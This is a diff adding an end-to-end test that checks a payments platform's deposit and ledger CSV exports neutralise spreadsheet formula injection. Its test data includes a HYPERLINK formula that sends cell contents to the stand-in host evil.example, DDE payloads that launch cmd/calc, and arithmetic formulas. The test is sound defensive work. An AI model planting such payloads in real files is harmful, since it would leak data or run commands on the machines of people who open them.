@@ -3,9 +3,10 @@ import { createTestDatabase } from '../support/db';
 import { mkdtempSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { createMerchant, onrampCli, startStack, type Stack } from '../support/stack';
-import { request } from '../support/http';
-import { randomAddress, settledBalanceDeposit } from '../support/onramps';
+import { createMerchant, eventually, onrampCli, startStack, type Stack } from '../support/stack';
+import { graphql, request } from '../support/http';
+import { createBalanceOnramp, randomAddress, settledBalanceDeposit } from '../support/onramps';
+import { sql } from '../support/sql';
 import { lagosDay } from '../../src/domain/lagos-day';
 
 // USD and NGN amounts are summed exactly, in millionths, never as floats.
@@ -105,6 +106,83 @@ describe('reconciliation exports end to end', () => {
         ['usd_pending_withdrawal', '7.250000', withdrawal.body.withdrawal_id],
       ].sort(),
     );
+  });
+
+  it('writes no cell a spreadsheet would run: text defused, amounts still numbers', async () => {
+    const { api_key: formulaKey } = await createMerchant(databaseUrl, 'Formula Co');
+    const onramp = await createBalanceOnramp(stack.url, formulaKey);
+    // A payer (through the sandbox bank, as a bank would send it) names himself a formula.
+    const payerName = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")';
+    const transfer = async (reference: string) => {
+      const answer = await request(stack.url, 'POST', '/v1/sandbox/deposits', {
+        key: formulaKey,
+        body: {
+          account_number: onramp.virtual_account.account_number,
+          amount_ngn: '2500.00',
+          bank_reference: reference,
+          payer: { account_name: payerName, account_number: '0123456789', bank_code: '058' },
+        },
+      });
+      expect([answer.status, answer.body.error]).toEqual([201, undefined]);
+      return answer.body.deposit_id as string;
+    };
+    const scenario = (fxFailure: string) =>
+      graphql(
+        stack.url,
+        formulaKey,
+        'mutation($i: SandboxScenarioInput!) { setSandboxScenario(input: $i) { fxFailure } }',
+        { i: { fxFailure } },
+      );
+    const statusOf = (id: string, status: string) =>
+      eventually(async () => {
+        const read = await request(stack.url, 'GET', `/v1/deposits/${id}`, { key: formulaKey });
+        return read.body.status === status ? true : undefined;
+      });
+    await scenario('TEMPORARY');
+    const flagged = await transfer(`@SUM(1+1)*cmd|'/C_calc'!A${Date.now()}`);
+    await statusOf(flagged, 'FLAGGED');
+    await scenario('PERMANENT');
+    const failed = await transfer(`-2+3-${Date.now()}`);
+    await statusOf(failed, 'FAILED');
+    await scenario('NONE');
+    // Reasons and account digits as a provider, a chain or a deposit stored before this
+    // version could leave them (no API writes them): the export must defuse them too.
+    await sql(
+      databaseUrl,
+      'update deposits set flag_reason = $2, sender_account = $3 where id = $1',
+      [flagged, "=cmd|' /C calc'!A0", '123456-1+2'],
+    );
+    await sql(databaseUrl, 'update deposits set failure_reason = $2 where id = $1', [
+      failed,
+      '+1+2',
+    ]);
+
+    const exported = await get(`/v1/reports/deposits.csv?from=${today}&to=${today}`, formulaKey);
+    expect(exported.status).toBe(200);
+    const byId = new Map(rows(exported.text).map((r) => [r.deposit_id, r]));
+    expect(byId.get(flagged)).toMatchObject({
+      payer_account_name: `'${payerName}`,
+      bank_reference: expect.stringMatching(/^'@SUM/),
+      flag_reason: "'=cmd|' /C calc'!A0",
+      payer_account_number_last4: "'-1+2",
+      amount_ngn: '2500.00',
+    });
+    expect(byId.get(failed)).toMatchObject({
+      bank_reference: expect.stringMatching(/^'-2\+3-/),
+      failure_reason: "'+1+2",
+      payer_account_number_last4: '6789',
+      amount_ngn: '2500.00',
+    });
+    // No cell of either report starts like a formula, except amounts: exact negative decimals.
+    const ledger = await get(`/v1/reports/ledger.csv?from=${today}&to=${today}`, formulaKey);
+    expect(ledger.status).toBe(200);
+    for (const text of [exported.text, ledger.text]) {
+      for (const record of parse(text) as string[][]) {
+        for (const cell of record) {
+          if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-[0-9]+\.[0-9]+$/);
+        }
+      }
+    }
   });
 
   it('refuses what it should, in the error shape', async () => {
